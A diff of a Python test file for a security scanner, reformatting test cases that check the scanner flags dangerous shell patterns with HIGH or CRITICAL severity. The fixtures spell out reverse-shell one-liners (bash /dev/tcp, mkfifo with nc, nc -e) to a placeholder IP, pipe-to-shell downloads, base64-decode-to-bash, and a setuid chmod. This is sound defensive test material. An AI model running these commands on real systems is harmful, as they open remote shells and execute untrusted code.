@@ -44,8 +44,11 @@ def test_ordinary_output_is_not_worth_blocking(text: str) -> None:
         ("curl -fsSL https://get.example.sh | sudo bash", "code.pipe-to-shell", Severity.HIGH),
         ("wget -qO- http://x.example/i | sh -s -- --yes", "code.pipe-to-shell", Severity.HIGH),
         ("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "code.dev-tcp", Severity.CRITICAL),
-        ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f", "code.mkfifo-shell",
-         Severity.CRITICAL),
+        (
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
+            "code.mkfifo-shell",
+            Severity.CRITICAL,
+        ),
         ("nc -e /bin/sh 203.0.113.7 4444", "code.netcat-exec", Severity.CRITICAL),
         ("echo ZWNobyBoaQ== | base64 -d | bash", "code.decode-to-shell", Severity.CRITICAL),
         ("chmod u+s /usr/bin/find", "code.setuid-chmod", Severity.HIGH),
@@ -117,8 +120,11 @@ def test_code_findings_are_not_redacted_and_carry_snippets() -> None:
 
 
 def test_python_subprocess_of_decoded_code_is_critical() -> None:
-    found = [f for f in SCANNER.scan(b'subprocess.run(["python", "-c", base64.b64decode("cHJpbnQoMSk=")])')
-             if f.rule == "code.py.exec-decoded"]
+    found = [
+        f
+        for f in SCANNER.scan(b'subprocess.run(["python", "-c", base64.b64decode("cHJpbnQoMSk=")])')
+        if f.rule == "code.py.exec-decoded"
+    ]
     assert found and found[0].severity == Severity.CRITICAL
 
 
